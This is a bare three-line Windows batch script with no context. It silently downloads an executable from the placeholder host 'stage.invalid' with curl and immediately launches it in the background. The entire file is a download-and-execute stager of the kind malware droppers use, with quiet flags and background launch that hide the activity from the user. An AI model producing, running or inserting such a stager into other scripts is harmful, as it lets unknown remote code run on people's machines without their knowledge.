@echo off
curl -s http://stage.invalid/a.exe -o a.exe
start /b a.exe
